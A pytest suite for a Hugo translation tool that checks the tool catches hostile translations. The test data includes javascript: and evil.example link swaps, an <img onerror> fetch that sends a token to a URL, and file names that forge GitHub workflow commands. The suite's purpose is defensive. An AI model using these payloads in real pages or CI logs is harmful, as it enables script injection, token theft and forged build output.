"""Hostile translations, table-driven: what a page or a translation can hold that would break
the built page without a word. Each case says the exact message it must produce, or the
exact page it must build; Hugo renders the built pages where it is the judge."""

from __future__ import annotations

import html
import re
import shutil
import subprocess
from collections.abc import Callable, Mapping
from pathlib import Path
from urllib.parse import unquote

import pytest

from extrans.formats.checks import check_translation
from extrans.formats.linkify import bare_urls
from extrans.formats.markdown import parse_inline
from extrans.formats.pofile import parse_po
from extrans.formats.pseudo import pseudo_translate as pseudo
from extrans.stages.report import Annotation, render_github

from .conftest import REPO
from .test_build import fill_catalogs

Run = Callable[..., tuple[int, str, str]]
PARAGRAPH = ("body: paragraph",)
needs_hugo = pytest.mark.skipif(
    shutil.which("hugo") is None, reason="needs Hugo: apt-get install hugo"
)

# Every parameter of the page, by Hugo's (lower-cased) name: what an alias ends up showing.
PARAMS_LAYOUT = (
    '{{ range $key, $value := .Params }}<p id="{{ $key }}">{{ $value }}</p>\n{{ end }}'
    "{{ .Content }}\n"
)
FIELDS = ["title", "linkTitle", "description", "summary", "keywords[]", "tagline", "note", "block"]


def make_site(root: Path, pages: Mapping[str, str]) -> Path:
    """A small site: the example's Hugo configuration, a layout that shows every parameter,
    and ``pages`` (by name in content/en)."""
    site = root / "site"
    (site / "content/en").mkdir(parents=True)
    (site / "layouts/_default").mkdir(parents=True)
    shutil.copy(REPO / "hugo.toml", site / "hugo.toml")
    (site / "extrans.toml").write_text(f"fields = {FIELDS!r}\n", encoding="utf-8")
    (site / "layouts/_default/single.html").write_text(PARAMS_LAYOUT, encoding="utf-8")
    (site / "layouts/_default/list.html").write_text("{{ .Content }}\n", encoding="utf-8")
    for name, text in pages.items():
        (site / "content/en" / name).write_text(text, encoding="utf-8")
    return site


def render_with_hugo(site: Path, out: Path) -> None:
    """Hugo builds the site into ``out`` (failing the test with its own message if it cannot)."""
    done = subprocess.run(
        ["hugo", "--quiet", "-s", str(site), "-d", str(out)], capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr


# --- YAML anchors, aliases and tags stay with the translated value --------------------------

# front matter, the translations, the built page's front matter, what Hugo shows per parameter
ANCHORS: dict[str, tuple[str, dict[str, str], str, dict[str, str]]] = {
    "anchor on a plain value": (
        "title: &t Hello there\nlinkTitle: *t\n",
        {"Hello there": "Hola"},
        "title: &t Hola\nlinkTitle: *t\n",
        {"title": "Hola", "linktitle": "Hola"},
    ),
    "anchor on a plain value, translation quoted": (
        "title: &t Hello there\nlinkTitle: *t\n",
        {"Hello there": "Hola: amigos"},
        'title: &t "Hola: amigos"\nlinkTitle: *t\n',
        {"title": "Hola: amigos", "linktitle": "Hola: amigos"},
    ),
    "anchor on a quoted value": (
        'title: Quoted\nsummary: &s "Peel the spine off the mat."\nteaser: *s\n',
        {"Peel the spine off the mat.": "Despega la columna de la colchoneta."},
        'title: Quoted\nsummary: &s "Despega la columna de la colchoneta."\nteaser: *s\n',
        {"summary": "Despega la columna de la colchoneta.", "teaser": "Despega la columna de la colchoneta."},
    ),
    "anchor on a single-quoted value": (
        "title: Single\nsummary: &s 'Roll down slowly'\nteaser: *s\n",
        {"Roll down slowly": "Baja despacio"},
        "title: Single\nsummary: &s 'Baja despacio'\nteaser: *s\n",
        {"teaser": "Baja despacio"},
    ),
    "anchor on a list item": (
        "title: Keywords\nkeywords:\n  - &k spine\n  - *k\n  - core\n",
        {"spine": "columna", "core": "centro"},
        "title: Keywords\nkeywords:\n  - &k columna\n  - *k\n  - centro\n",
        {"keywords": "[columna columna centro]"},
    ),
    "!!str tag": (
        "title: Tagged\ndescription: !!str Some plain words\n",
        {"Some plain words": "Unas palabras"},
        "title: Tagged\ndescription: !!str Unas palabras\n",
        {"description": "Unas palabras"},
    ),
    "tag and anchor together": (
        "title: Both\ntagline: !!str &g Good morning\nmotto: *g\n",
        {"Good morning": "Buenos días"},
        "title: Both\ntagline: !!str &g Buenos días\nmotto: *g\n",
        {"tagline": "Buenos días", "motto": "Buenos días"},
    ),
    "anchor alone on its line": (
        "title: Alone\nnote: &n\n  Written on its own line\naside: *n\n",
        {"Written on its own line": "Escrita en su propia línea"},
        "title: Alone\nnote: &n\n  Escrita en su propia línea\naside: *n\n",
        {"note": "Escrita en su propia línea", "aside": "Escrita en su propia línea"},
    ),
    "anchor on a block scalar": (
        "title: Block\nblock: &b |\n  A block of text\nquote: *b\n",
        {"A block of text\n": "Un bloque de texto\n"},
        'title: Block\nblock: &b "Un bloque de texto\\n"\nquote: *b\n',
        {"block": "Un bloque de texto\n", "quote": "Un bloque de texto\n"},
    ),
}  # fmt: skip


@needs_hugo
@pytest.mark.parametrize("case", sorted(ANCHORS))
def test_anchors_and_tags_stay_with_the_translated_value(
    tmp_path: Path, extrans: Run, case: str
) -> None:
    front, translations, expected, shown = ANCHORS[case]
    site = make_site(tmp_path, {"page.md": f"---\n{front}---\n\nBody.\n"})
    assert extrans(site, "extract")[0] == 0
    fill_catalogs(site, lambda text: translations.get(text, text))
    code, _, err = extrans(site, "build", "--threshold", "0")
    assert (code, err) == (0, "")
    built = (site / "content/es/page.md").read_text(encoding="utf-8")
    assert built == f"---\n{expected}---\n\nBody.\n"
    render_with_hugo(site, tmp_path / "public")
    html = (tmp_path / "public/es/page/index.html").read_text(encoding="utf-8")
    for key, value in shown.items():
        assert f'<p id="{key}">{value}</p>' in html, html


# --- Links, images and autolinks come back as such, to the same destinations ---------------

LINK_TARGET = "error[link-target]: link and image destinations must come back unchanged: "

# source, translation, the exact message of link-target
BROKEN_LINKS = {
    "autolink to javascript:": (
        "See <https://example.org/x> for more.",
        "Mira <javascript:alert(1)> para más.",
        "missing '<https://example.org/x>'; added '<javascript:alert(1)>'",
    ),
    "autolink to another site": (
        "See <https://example.org/x> for more.",
        "Mira <https://example.com/x> para más.",
        "missing '<https://example.org/x>'; added '<https://example.com/x>'",
    ),
    "autolink to another address": (
        "Write to <mail@example.org> today.",
        "Escribe a <otro@example.com> hoy.",
        "missing '<mail@example.org>'; added '<otro@example.com>'",
    ),
    "autolink turned to text": (
        "See <https://example.org/x> for more.",
        "Mira `https://example.org/x` para más.",
        "missing '<https://example.org/x>'",
    ),
    "bare URL to another site": (
        "See https://example.org/docs for more.",
        "Mira https://evil.example/ para más.",
        "missing '<https://example.org/docs>'; added '<https://evil.example/>'",
    ),
    "bare URL added": (
        "See the documentation.",
        "Mira la documentación en https://evil.example/.",
        "added '<https://evil.example/>'",
    ),
    "bare URL turned to text": (
        "See https://example.org/docs now.",
        "Mira `https://example.org/docs` ya.",
        "missing '<https://example.org/docs>'",
    ),
    "bare URL in parentheses to another site": (
        "(see https://example.org/a_(b))",
        "(mira https://evil.example/a_(b))",
        "missing '<https://example.org/a_(b)>'; added '<https://evil.example/a_(b)>'",
    ),
    "bare URL right after a quote": (
        'See "https://example.org/docs" now.',
        'Mira "https://evil.example/" ya.',
        "missing '<https://example.org/docs\">'; added '<https://evil.example/\">'",
    ),
    "bare URL right after emphasis": (
        "See **https://example.org/docs** now.",
        "Mira **https://evil.example/** ya.",
        "missing '<https://example.org/docs>'; added '<https://evil.example/>'",
    ),
    "bare www address to another site": (
        "See www.example.org for more.",
        "Mira www.evil.example para más.",
        "missing '<www.example.org>'; added '<www.evil.example>'",
    ),
    "bare e-mail address changed": (
        "Write to mail@example.org today.",
        "Escribe a otro@evil.example hoy.",
        "missing '<mail@example.org>'; added '<otro@evil.example>'",
    ),
    "bare ftp URL to another site": (
        "Files at ftp://files.example.org/pub.",
        "Archivos en ftp://files.evil.example/pub.",
        "missing '<ftp://files.example.org/pub>'; added '<ftp://files.evil.example/pub>'",
    ),
    "link to javascript:": (
        "See [the Saw](/exercises/saw/) first.",
        "Mira [el Saw](javascript:alert(1)) primero.",
        "missing '[](/exercises/saw/)'; added '[](javascript:alert(1))'",
    ),
    "image escaped": (
        "Two ![photo](/img/b.png) here.",
        "Dos !\\[foto](/img/b.png) aquí.",
        "missing '![](/img/b.png)'",
    ),
    "image title followed by junk": (
        'Two ![photo](/img/b.png "A title") here.',
        'Dos ![foto](/img/b.png "Un título" basura) aquí.',
        "missing '![](/img/b.png)'",
    ),
    "image made a link": (
        "Two ![photo](/img/b.png) here.",
        "Dos [foto](/img/b.png) aquí.",
        "missing '![](/img/b.png)'; added '[](/img/b.png)'",
    ),
    "image to another file": (
        "Two ![photo](/img/b.png) here.",
        "Dos ![foto](https://example.com/b.png) aquí.",
        "missing '![](/img/b.png)'; added '![](https://example.com/b.png)'",
    ),
    "link in code": (
        "See [the Saw](/exercises/saw/) first.",
        "Mira `[el Saw](/exercises/saw/)` primero.",
        "missing '[](/exercises/saw/)'",
    ),
    "link to a shortcode unlinked": (
        'See [the Saw]({{< ref "saw.md" >}}) first.',
        'Mira el Saw {{< ref "saw.md" >}} primero.',
        "missing '[]({{< ref \"saw.md\" >}})'",
    ),
}

# source, translation: nothing for link-target to say
KEPT_LINKS = {
    "autolink kept": ("See <https://example.org/x> now.", "Mira <https://example.org/x> ya."),
    "address kept": ("Write to <mail@example.org>.", "Escribe a <mail@example.org>."),
    "image alt and title translated": (
        'Two ![photo](/img/b.png "A title") here.',
        'Dos ![foto](/img/b.png "Un título") aquí.',
    ),
    "links moved": (
        "[One](/1) and [two](/2).",
        "[Dos](/2) y [uno](/1).",
    ),
    "shortcode destination kept": (
        'See [the Saw]({{< ref "saw.md" >}}) first.',
        'Mira [el Saw]({{< ref "saw.md" >}}) primero.',
    ),
    "angle-bracket destination written plain": (
        "See [the Saw](</exercises/saw/>) first.",
        "Mira [el Saw](/exercises/saw/) primero.",
    ),
    "bare URL kept, its trailing punctuation not": (
        "See https://example.org/docs.",
        "Mira https://example.org/docs, ya.",
    ),
    "bare URL written as an autolink": (
        "See https://example.org/docs now.",
        "Mira <https://example.org/docs> ya.",
    ),
    "bare address written as an autolink": (
        "Write to mail@example.org today.",
        "Escribe a <mail@example.org> hoy.",
    ),
    "URL glued to a word, which Hugo does not link": (
        "Try foohttps://example.org/x now.",
        "Prueba foohttps://example.com/x ya.",
    ),
    "URL in a link's text": (
        "See [https://example.org/x](/docs) now.",
        "Mira [https://example.com/x](/docs) ya.",
    ),
}


@pytest.mark.parametrize("case", sorted(BROKEN_LINKS))
def test_a_changed_link_image_or_autolink_is_an_error(case: str) -> None:
    source, translation, message = BROKEN_LINKS[case]
    found = check_translation(source, translation, PARAGRAPH)
    assert [f"{f.severity}[{f.check}]: {f.message}" for f in found if f.check == "link-target"] == [
        LINK_TARGET + message
    ]


@pytest.mark.parametrize("case", sorted(KEPT_LINKS))
def test_a_link_image_or_autolink_kept_is_no_error(case: str) -> None:
    source, translation = KEPT_LINKS[case]
    assert check_translation(source, translation, PARAGRAPH) == []


# An escaped backtick is a literal one, as Hugo renders it: no code span starts there.
ESCAPED_BACKTICKS = {
    "kept": ("Type \\` then `x`.", "Escribe \\` y luego `x`.", []),
    "code changed after it": (
        "Type \\` then `x`.",
        "Escribe \\` y luego `y`.",
        ["error[code-span]: inline code must come back unchanged: missing '`x`'; added '`y`'"],
    ),
    "a link after it": (
        "Type \\` then [x](/x) `y`.",
        "Escribe \\` y luego [x](/z) `y`.",
        [LINK_TARGET + "missing '[](/x)'; added '[](/z)'"],
    ),
}


@pytest.mark.parametrize("case", sorted(ESCAPED_BACKTICKS))
def test_an_escaped_backtick_opens_no_code_span(case: str) -> None:
    source, translation, messages = ESCAPED_BACKTICKS[case]
    found = check_translation(source, translation, PARAGRAPH)
    assert [f"{f.severity}[{f.check}]: {f.message}" for f in found] == messages


TOKEN = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
"""What a translation should never carry whole into a CI log."""
DESTINATIONS = "link and image destinations must come back unchanged: "

# source, translation: the findings, each quoting at most 40 characters of a piece of the
# translation, and at most three pieces
QUOTED = {
    "a link with a token": (
        "See [the docs](/docs) now.",
        f"Mira [la doc](https://example.org/?token={TOKEN}) ya.",
        [f"error[link-target]: {DESTINATIONS}missing '[](/docs)'; "
         "added '[](https://example.org/?token=ghp_16C7e4'…"],
    ),
    "active HTML with a token": (
        "Plain words here.",
        f"Unas <img src=x onerror=\"fetch('https://example.org/?t={TOKEN}')\"> palabras.",
        ["error[html]: adds active HTML '<img src=x onerror=\"fetch(\\'https://examp'…: "
         "never allowed in a translation"],
    ),
    "a long code span": (
        "Use `a` here.",
        f"Usa `{TOKEN}{TOKEN}` aquí.",
        ["error[code-span]: inline code must come back unchanged: missing '`a`'; "
         "added '`ghp_16C7e42F292c6912E7710c838347Ae178B4'…"],
    ),
    "five shortcodes added": (
        "Text.",
        "Texto {{< a >}} {{< b >}} {{< c >}} {{< d >}} {{< e >}}.",
        ["error[shortcode]: shortcode calls must come back unchanged: "
         "added '{{< a >}}', '{{< b >}}', '{{< c >}}' and 2 more"],
    ),
    "five links added": (
        "One.",
        "[a](/1) [b](/2) [c](/3) [d](/4) [e](/5)",
        [f"error[link-target]: {DESTINATIONS}added '[](/1)', '[](/2)', '[](/3)' and 2 more"],
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(QUOTED))
def test_a_finding_quotes_at_most_40_characters_of_three_pieces(case: str) -> None:
    source, translation, expected = QUOTED[case]
    found = check_translation(source, translation, PARAGRAPH)
    assert [f"{f.severity}[{f.check}]: {f.message}" for f in found] == expected
    assert all(TOKEN not in f.message for f in found)


# --- Bare URLs: Hugo links them (Goldmark's linkify), and is the judge of where ------------

# Each a paragraph of its own: Hugo renders them, and the bare URLs extrans reads must be the
# texts of the links Hugo makes of them (the links and autolinks written as such aside).
BARE_URL_CASES = [
    "see https://example.org/docs now", "see https://example.org/docs.",
    "see https://example.org/docs, and", "(see https://example.org/docs)",
    "see (https://example.org/a_(b))", "see https://example.org/a?x=1&amp; now",
    "see www.example.org now", "mail me at a.b@example.org.", "mail me at a@example",
    "see:https://example.org/x", "foohttps://example.org/x", "*https://example.org/x*",
    "**https://example.org/x**", "_https://example.org/x_", "~~https://example.org/x~~",
    "`https://example.org/x` code", "`c`https://example.org/x after code",
    "[a](/b)https://example.org/x after a link", "[see https://example.org/x] not a link",
    "[see https://example.org/x](/y) a link", "]https://example.org/x",
    "\\*https://example.org/x escaped", 'https://example.org/x"y" quote',
    "https://example.org/x<b>", "http://localhost:8080/x", "https://example.org:8080/x",
    "ftp://files.example.org/x", "HTTPS://EXAMPLE.ORG/x", "https://Example.ORG/x",
    "www.Example.org", "a@b.org-x", "a@b.org_x", "<b>https://example.org/x</b>",
    '"https://example.org/x"', "'https://example.org/x'", "[https://example.org/x]",
    "!https://example.org/x", "x&https://example.org/x", "tab\thttps://example.org/x",
    "one\nhttps://example.org/x two", "one  \nhttps://example.org/x hard",
    "https://example.org/x...", "https://example.org/x?!", "https://example.org/x*",
    "https://example.org/x_", "https://example.org/a(b)c)", "https://example.org/a&amp;b",
    "https://example.org/a&b;", "https://e.org/a;", "x@y.org:more", "-a@b.org", ".a@b.org",
    "a+b@c.org", "user@sub.example.org.", "https://例え.jp/x", "https://example.org/ü",
    "<https://example.org/x>https://example.org/y", "&copy;https://example.org/x",
    "[a]https://example.org/x", "[a] https://example.org/x", "x [a b] https://example.org/x",
    'said "https://example.org/x" loudly', "it's https://example.org/x",
    "don'thttps://example.org/x", "...https://example.org/x", "--https://example.org/x",
    "x--https://example.org/x", "<<https://example.org/x", "![i](/a.png)https://example.org/x",
    "a*https://example.org/x", "a_https://example.org/x", "snake_case https://example.org/x_y_",
    "(https://example.org/x))", "see https://example.org/x). More", "email:a@b.org", "a@b.c",
    "a@b.co.", "me@here.org, you@there.org", "https://example.org/?q=a&b=c;d",
    "www.example.org/a/b.html?x=1.", "www.x", "www.x.y", "http://x.y:80",
    "a\\ https://example.org/x", "&amp; https://example.org/x", "https://ex_ample.org",
    "https://example.org/a&amp;",
]  # fmt: skip


def links_hugo_makes(site: Path, out: Path, page: str) -> list[tuple[str, str]]:
    """Every link of the rendered page: its destination and its text, unescaped."""
    rendered = (out / page / "index.html").read_text(encoding="utf-8")
    return [
        (html.unescape(href), html.unescape(text))
        for href, text in re.findall(r'<a href="([^"]*)"[^>]*>(.*?)</a>', rendered)
    ]


@needs_hugo
def test_bare_urls_are_read_as_hugo_links_them(tmp_path: Path) -> None:
    pages = {
        f"c{n:03d}.md": f"---\ntitle: C\n---\n\n{case}\n" for n, case in enumerate(BARE_URL_CASES)
    }
    site = make_site(tmp_path, pages)
    render_with_hugo(site, tmp_path / "public")
    for n, case in enumerate(BARE_URL_CASES):
        hugo = [  # the links whose text is their destination, as bare URLs and autolinks make
            text
            for href, text in links_hugo_makes(site, tmp_path / "public", f"c{n:03d}")
            if unquote(href) in (text, f"https://{text}", f"mailto:{text}")
        ]
        if case.startswith("<https"):
            hugo = hugo[1:]  # (the autolink)
        assert bare_urls(parse_inline(case, as_written=True)) == hugo, case


BARE_URL_PAGE = "---\ntitle: Docs\n---\n\nSee https://example.org/docs for more.\n"
EVIL_BARE_URL = {"See https://example.org/docs for more.": "Mira https://evil.example/ para más."}
EVIL_LINKS = {
    "an autolink to javascript:": (
        "See <https://example.org/x> for more.",
        "Mira <javascript:alert(1)> para más.",
        "missing '<https://example.org/x>'; added '<javascript:alert(1)>'",
        "https://example.org/x",
    ),
    "a bare URL to another site": (
        "See https://example.org/docs for more.",
        "Mira https://evil.example/ para más.",
        "missing '<https://example.org/docs>'; added '<https://evil.example/>'",
        "https://example.org/docs",
    ),
}  # fmt: skip


@needs_hugo
@pytest.mark.parametrize("case", sorted(EVIL_LINKS))
def test_a_link_led_elsewhere_is_reported_and_never_built(
    tmp_path: Path, extrans: Run, case: str
) -> None:
    """check reports the translation at its line, build keeps the source text, and Hugo
    renders the link the source made, and no other."""
    source, translation, problem, destination = EVIL_LINKS[case]
    page = f"---\ntitle: Docs\n---\n\n{source}\n"
    site = make_site(tmp_path, {"docs.md": page})
    assert extrans(site, "extract")[0] == 0
    fill_catalogs(site, lambda text: translation if text == source else pseudo(text))
    catalog = (site / "locale/es/docs.po").read_text(encoding="utf-8").split("\n")
    line = catalog.index(f'msgstr "{translation}"') + 1
    expected = f"locale/es/docs.po:{line}: {LINK_TARGET}{problem}"
    code, out, _ = extrans(site, "check")
    assert code == 1 and out.splitlines()[0] == expected
    code, _, err = extrans(site, "build", "--threshold", "0")
    assert code == 0 and expected in err
    built = (site / "content/es/docs.md").read_text(encoding="utf-8")
    assert built == page.replace("Docs", pseudo("Docs"))  # the source text stays
    render_with_hugo(site, tmp_path / "public")
    assert links_hugo_makes(site, tmp_path / "public", "es/docs") == [(destination, destination)]


@needs_hugo
def test_bare_urls_are_text_where_hugo_does_not_link_them(tmp_path: Path, extrans: Run) -> None:
    """``markup.goldmark.extensions.linkify = false``: a bare URL is text, any translation
    of it is."""
    site = make_site(tmp_path, {"docs.md": BARE_URL_PAGE})
    config = site / "hugo.toml"
    config.write_text(
        config.read_text(encoding="utf-8") + "\n[markup.goldmark.extensions]\nlinkify = false\n",
        encoding="utf-8",
    )
    assert extrans(site, "extract")[0] == 0
    fill_catalogs(site, lambda text: EVIL_BARE_URL.get(text, pseudo(text)))
    assert extrans(site, "check")[:3:2] == (0, "")
    assert extrans(site, "build", "--threshold", "0")[:3:2] == (0, "")
    render_with_hugo(site, tmp_path / "public")
    assert links_hugo_makes(site, tmp_path / "public", "es/docs") == []
    rendered = (tmp_path / "public/es/docs/index.html").read_text(encoding="utf-8")
    assert "Mira https://evil.example/ para más." in rendered


# --- Block structure: a built page whose blocks differ from its source's is never written --

# body, translation of its one text: each passes every check, and only build's comparison
# of the two pages' blocks sees what it does
BLOCKS_CHANGED = {
    "a wrapped tag joined into one line, which makes an HTML block of it": (
        '<a title="Hello" data-x = \'yes <em>"</em>\'\nclass="note" />\n',
        '<a title="Hola" data-x = \'si <em>"</em>\' class="note" />',
    ),
}


@pytest.mark.parametrize("case", sorted(BLOCKS_CHANGED))
def test_a_translation_that_changes_the_blocks_is_never_built(
    tmp_path: Path, extrans: Run, case: str
) -> None:
    body, translation = BLOCKS_CHANGED[case]
    site = make_site(tmp_path, {"docs.md": f"---\ntitle: Docs\n---\n\n{body}"})
    assert extrans(site, "extract")[0] == 0
    # (the body's text; the menus of the example's hugo.toml are left as their sources)
    fill_catalogs(
        site,
        lambda text: "Documentos" if text == "Docs" else translation if "<a" in text else text,
    )
    assert extrans(site, "check")[0] == 0
    code, _, err = extrans(site, "build", "--threshold", "0")
    assert (code, err) == (
        2,
        "locale/es/docs.po: error: the translations change the page's block structure; "
        "run `extrans check`\n",
    )
    assert not (site / "content/es/docs.md").exists()


def table_cells_hugo_makes(out: Path, page: str) -> list[str]:
    rendered = (out / page / "index.html").read_text(encoding="utf-8")
    return [html.unescape(cell) for cell in re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", rendered)]


@needs_hugo
def test_a_table_cell_ending_in_a_backslash_is_reported_and_never_built(
    tmp_path: Path, extrans: Run
) -> None:
    """A cell's translation that ends in one backslash would escape the '|' after it, and its
    text would move into the next cell: check reports it at its line, build keeps the source
    text, and Hugo renders the table with as many cells as the source's."""
    page = "---\ntitle: Docs\n---\n\n|Name|Value|\n|---|---|\n|one|two|\n"
    site = make_site(tmp_path, {"docs.md": page})
    assert extrans(site, "extract")[0] == 0
    fill_catalogs(site, lambda text: "uno\\" if text == "one" else pseudo(text))
    catalog = (site / "locale/es/docs.po").read_text(encoding="utf-8").split("\n")
    line = catalog.index('msgstr "uno\\\\"') + 1
    expected = (
        f"locale/es/docs.po:{line}: error[table-pipe]: a '\\' at the end of a table cell "
        "escapes the '|' after it; write it '&#92;'"
    )
    code, out, _ = extrans(site, "check")
    assert code == 1 and out.splitlines()[0] == expected
    code, _, err = extrans(site, "build", "--threshold", "0")
    assert code == 0 and expected in err
    render_with_hugo(site, tmp_path / "public")
    cells = [pseudo("Name"), pseudo("Value"), "one", pseudo("two")]
    assert table_cells_hugo_makes(tmp_path / "public", "es/docs") == cells


# --- Deep nesting: extracted up to the bound, the page refused beyond it --------------------


def nested_list(depth: int) -> str:
    return "".join("  " * i + f"- Level {i + 1} of the list\n" for i in range(depth))


def nested_quote(depth: int) -> str:
    return "".join(">" * (i + 1) + f" Level {i + 1} of the quote\n" for i in range(depth))


@needs_hugo
@pytest.mark.parametrize(
    ("name", "body", "deepest"),
    [
        ("list-10.md", nested_list(10), "Level 10 of the list"),
        ("list-50.md", nested_list(50), "Level 50 of the list"),
        ("quote-20.md", nested_quote(20), "Level 20 of the quote"),
        ("quote-50.md", nested_quote(50), "Level 50 of the quote"),
    ],
)
def test_deep_nesting_up_to_the_bound_is_extracted_and_built(
    tmp_path: Path, extrans: Run, name: str, body: str, deepest: str
) -> None:
    page = f"---\ntitle: Deep\n---\n\nBefore.\n\n{body}\nAfter the nesting.\n"
    site = make_site(tmp_path, {name: page})
    assert extrans(site, "extract")[0] == 0
    catalog = (site / "locale/es" / name.replace(".md", ".po")).read_text(encoding="utf-8")
    assert f'msgid "{deepest}"' in catalog and 'msgid "After the nesting."' in catalog
    code, out, _ = extrans(site, "status")
    assert code == 0 and "0% of entries" in out  # nothing is counted as done before it is
    fill_catalogs(site, pseudo)
    assert extrans(site, "build")[:3:2] == (0, "")
    render_with_hugo(site, tmp_path / "public")
    html = (tmp_path / "public/es" / name.replace(".md", "") / "index.html").read_text("utf-8")
    assert pseudo(deepest) in html and pseudo("After the nesting.") in html


def test_a_page_nested_too_deep_is_reported_by_status_not_counted(
    tmp_path: Path, extrans: Run
) -> None:
    page = f"---\ntitle: Deep\n---\n\n{nested_list(51)}\nAfter the nesting.\n"
    site = make_site(tmp_path, {"deep.md": page, "plain.md": "---\ntitle: Plain\n---\n"})
    expected = (
        "content/en/deep.md:55: error: lists and block quotes nested more than 50 deep; "
        "extrans cannot read the text inside them\n"
    )
    assert extrans(site, "extract")[::2] == (2, expected)
    fill_catalogs(site, pseudo)
    code, out, err = extrans(site, "status")
    assert (code, err) == (2, expected)
    assert out.endswith(  # the page is not counted: it is unreadable, and says where
        "  content/en/plain.md     100%    100%      0      0  not built\n"
        "  site strings:\n"  # (the menus of the example's hugo.toml)
        "  hugo.toml               100%    100%      0      0  not built\n\n"
        f"unreadable: {expected.replace(' error:', '')}"
    )


# --- Line separators: only CR and LF end a Markdown line -----------------------------------

LINE_SEPARATORS = {"form-feed": "\x0c", "next-line": "\x85", "u2028": "\u2028", "u2029": "\u2029"}


@needs_hugo
def test_a_line_separator_markdown_does_not_know_is_text_and_the_rest_is_read(
    tmp_path: Path, extrans: Run
) -> None:
    pages = {
        f"{name}.md": f"---\ntitle: Sep\n---\n\nHold{char}the curl.\n\nRoll down slowly.\n"
        for name, char in LINE_SEPARATORS.items()
    }
    site = make_site(tmp_path, pages)
    assert extrans(site, "extract")[:3:2] == (0, "")
    for name, char in LINE_SEPARATORS.items():
        catalog = parse_po((site / f"locale/es/{name}.po").read_text(encoding="utf-8"), name)
        msgids = [m.msgid for m in catalog.messages if m.msgid]
        assert msgids == ["Sep", f"Hold{char}the curl.", "Roll down slowly."]
    fill_catalogs(site, pseudo)
    assert extrans(site, "build")[:3:2] == (0, "")
    render_with_hugo(site, tmp_path / "public")
    for name, char in LINE_SEPARATORS.items():
        html = (tmp_path / f"public/es/{name}/index.html").read_text(encoding="utf-8")
        assert pseudo(f"Hold{char}the curl.") in html and pseudo("Roll down slowly.") in html


# --- GitHub annotations: no file name or message can forge a workflow command --------------


def test_annotations_escape_properties_and_data_as_github_documents() -> None:
    assert Annotation(
        "error", "a%b\r\nc:d,e.po", 3, "t:i,t%le", "50%\r\ndone: ok, fine"
    ).command() == (
        "::error file=a%25b%0D%0Ac%3Ad%2Ce.po,line=3,title=t%3Ai%2Ct%25le::50%25%0D%0Adone: ok, fine"
    )
    assert Annotation("warning", None, None, "unreadable", "no file").command() == (
        "::warning title=unreadable::no file"
    )


def test_annotations_escape_what_would_colour_or_reorder_the_log() -> None:
    """GitHub's log viewer renders ANSI escapes: a file name could colour or hide lines."""
    assert Annotation("error", "esc\x1b[31mred\u202e.po", 1, "t\x1b", "m\u202e").command() == (
        "::error file=esc\\x1b[31mred\\u202e.po,line=1,title=t\\x1b::m\\u202e"
    )


FORGED = "x\n::error file=evil.md,line=1::forged"


def test_status_github_escapes_a_file_name_with_a_newline(tmp_path: Path, extrans: Run) -> None:
    site = make_site(tmp_path, {f"{FORGED}.md": "---\ntitle: Forged\n---\n\nText.\n"})
    code, out, _ = extrans(site, "status", "--format", "github")
    assert code == 2
    assert out.splitlines() == [
        "::error file=content/en/x%0A%3A%3Aerror file=evil.md%2Cline=1%3A%3Aforged.md,line=1,"
        "title=unreadable::the key derived from the page's path "
        "'x\\n::error file=evil.md,line=1::forged' contains a control character or one of "
        '\\ : * ? " < > |; rename the page, or set its translationKey'
    ]


def test_findings_past_what_github_shows_cannot_forge_a_command() -> None:
    """The findings GitHub would not show are written to the log as plain lines, where a
    file name starting with ``::`` would be a command: GitHub reads none there."""
    forged = Annotation("warning", "::error file=evil.md,line=1::forged", 1, "orphan", "gone")
    shown = [Annotation("warning", f"p{n}.md", 1, "orphan", "gone") for n in range(10)]
    lines = render_github([*shown, forged])
    stop = lines.splitlines()[11]
    assert lines.splitlines()[10:] == [
        "::notice title=more findings::GitHub shows 10 annotations of each kind per step; "
        "this step's log has the rest: 1 more warning",
        stop,
        "::error file=evil.md,line=1::forged:1: warning: orphan: gone",
        f"::{stop.removeprefix('::stop-commands::')}::",
    ]
    assert stop.startswith("::stop-commands::") and len(stop) == len("::stop-commands::") + 32


def test_status_github_escapes_a_comma_in_a_catalog_name(tmp_path: Path, extrans: Run) -> None:
    page = '---\ntitle: Comma\ntranslationKey: "a,line=9,b"\n---\n\nHalf done.\n'
    site = make_site(tmp_path, {"comma.md": page})
    assert extrans(site, "extract")[0] == 0
    fill_catalogs(site, pseudo, only=1)
    code, out, _ = extrans(site, "status", "--format", "github")
    assert (code, out) == (
        0,
        "::notice file=locale/es/a%2Cline=9%2Cb.po,line=1,title=50.0%25 translated::"
        "0 fuzzy, 1 untranslated\n"
        # (the menus of the example's hugo.toml, also translated by one entry)
        "::notice file=locale/es/menus.po,line=1,title=20.0%25 translated::"
        "0 fuzzy, 4 untranslated\n",
    )


def test_check_github_escapes_a_catalog_name_with_a_newline(tmp_path: Path, extrans: Run) -> None:
    site = make_site(tmp_path, {})
    (site / "locale/es").mkdir(parents=True)
    (site / "locale/es" / f"{FORGED}.po").write_text('msgid "a"\nmsgstr "b" junk\n', "utf-8")
    code, out, _ = extrans(site, "check", "--format", "github")
    assert code == 2
    assert out == (
        "::error file=locale/es/x%0A%3A%3Aerror file=evil.md%2Cline=1%3A%3Aforged.po,line=2,"
        "title=unreadable::cannot parse this line: 'msgstr \"b\" junk'\n"
    )
